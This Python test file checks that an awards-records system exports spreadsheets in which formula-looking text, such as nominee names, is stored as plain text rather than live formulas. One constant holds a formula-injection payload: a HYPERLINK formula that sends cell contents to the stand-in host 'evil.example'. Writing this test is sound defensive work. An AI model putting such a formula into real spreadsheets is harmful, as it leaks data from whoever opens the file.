"""Spreadsheets we write never turn imported text into live formulas (formula injection)."""

from __future__ import annotations

from pathlib import Path

from openpyxl import Workbook, load_workbook

from models.awards import AwardEntry
from tasks.awards.records import export_xlsx
from tasks.secondment.reports import keep_as_text

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_formula_looking_text_is_stored_as_text(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([PAYLOAD, "+1+1", "@SUM(A1)", "-2", -2, "普通文本"])

    assert keep_as_text(sheet) == 4
    book.save(tmp_path / "t.xlsx")

    row = list(load_workbook(tmp_path / "t.xlsx").active[1])  # type: ignore[index]
    assert [c.value for c in row] == [PAYLOAD, "+1+1", "@SUM(A1)", "-2", -2, "普通文本"]
    assert [c.data_type for c in row] == ["s", "s", "s", "s", "n", "s"]


def test_award_list_export_keeps_a_nominee_name_as_text(db: Path) -> None:
    entry = AwardEntry(
        year=2026, ref="N1", category="family", name=PAYLOAD, street="嘉兴路街道", rank=1
    )

    path = export_xlsx(year=2026, entries=[entry])

    cell = load_workbook(path).active["D2"]  # type: ignore[index]
    assert cell.value == PAYLOAD and cell.data_type == "s"
